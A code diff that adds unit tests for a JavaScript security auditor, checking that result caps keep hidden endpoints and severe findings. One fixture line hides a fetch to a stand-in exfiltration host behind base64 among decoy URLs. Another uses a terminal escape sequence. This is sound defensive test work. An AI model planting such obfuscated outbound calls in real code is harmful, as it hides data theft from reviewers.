@@ -139,6 +139,65 @@ TEST(AuditHostileInput, OutputIsBounded) {
   EXPECT_EQ(n, 50u);
 }
 
+Unpacked OneModuleForCaps(const std::string& path, const std::string& text) {
+  Unpacked u;
+  u.kind = "javascript";
+  Module m;
+  m.path = path;
+  m.text = text;
+  m.encoding = "utf8";
+  m.container = "file";
+  u.modules.push_back(m);
+  return u;
+}
+
+// Issue 16: 5,000 decoy URLs or base64 strings hid the real one without a
+// word. Past a cap the rest is counted and noted, a hidden endpoint takes the
+// place of a plain one, and a more severe finding that of a less severe one.
+TEST(AuditHostileInput, DecoysPastTheCapsAreNotedAndTheHiddenKept) {
+  std::string js;
+  for (int i = 0; i < 80; ++i) js += "const u" + std::to_string(i) + " = 'https://decoy" + std::to_string(i) + ".example/';\n";
+  for (int i = 0; i < 80; ++i) js += "const b" + std::to_string(i) + " = atob('" + (i % 2 ? "ZGVjb3kuZXhhbXBsZQ==" : "ZGVjb3kub3Jn") + "');\n";
+  js += "fetch(atob('aHR0cHM6Ly9leGZpbC5leGFtcGxlL3g='));\n";  // https://exfil.example/x
+  AuditOptions options;
+  options.analysis.max_endpoints = 50;
+  options.analysis.max_decoded = 20;
+  const AuditResult r = AuditUnpacked("m.js", OneModuleForCaps("m.js", js), TheAnalyzer(), options);
+  EXPECT_EQ(r.endpoints.size(), 50u);
+  EXPECT_TRUE(std::any_of(r.endpoints.begin(), r.endpoints.end(), [](const LocatedEndpoint& e) {
+    return e.endpoint.url.find("exfil.example") != std::string::npos;
+  })) << "the hidden endpoint is kept";
+  EXPECT_EQ(r.decoded.size(), 20u);
+  auto noted = [&](const std::string& needle) {
+    return std::any_of(r.notes.begin(), r.notes.end(),
+                       [&](const std::string& n) { return n.find(needle) != std::string::npos; });
+  };
+  EXPECT_TRUE(noted("limit: m.js: ")) << ::testing::PrintToString(r.notes);
+  EXPECT_TRUE(noted("more URLs and host names past the 50 listed")) << ::testing::PrintToString(r.notes);
+  EXPECT_TRUE(noted("more decoded strings past the 20 listed")) << ::testing::PrintToString(r.notes);
+}
+
+TEST(AuditHostileInput, MostSevereFindingsOfARuleAreKept) {
+  // 60 lone control bytes (low), then one terminal escape sequence (medium), same rule.
+  std::string js;
+  for (int i = 0; i < 60; ++i) js += "// a\x01b\n";
+  js += "// \x1b[2Jc\n";
+  AnalysisLimits limits;
+  limits.max_findings_per_rule = 10;
+  const ModuleAnalysis a = TheAnalyzer().Analyze(js, limits);
+  size_t low = 0, medium = 0;
+  for (const Finding& f : a.findings) {
+    if (f.rule != "unicode/control-characters") continue;
+    low += f.severity == Severity::kLow;
+    medium += f.severity == Severity::kMedium;
+  }
+  EXPECT_EQ(low + medium, 10u);
+  EXPECT_EQ(medium, 1u) << "the escape sequence past the cap is kept";
+  EXPECT_EQ(a.findings_omitted, 51u);
+  EXPECT_TRUE(std::is_sorted(a.findings.begin(), a.findings.end(),
+                             [](const Finding& x, const Finding& y) { return x.byte_offset < y.byte_offset; }));
+}
+
 Unpacked OneModule(const std::string& path, const std::string& text) {
   Unpacked u;
   u.kind = "javascript";
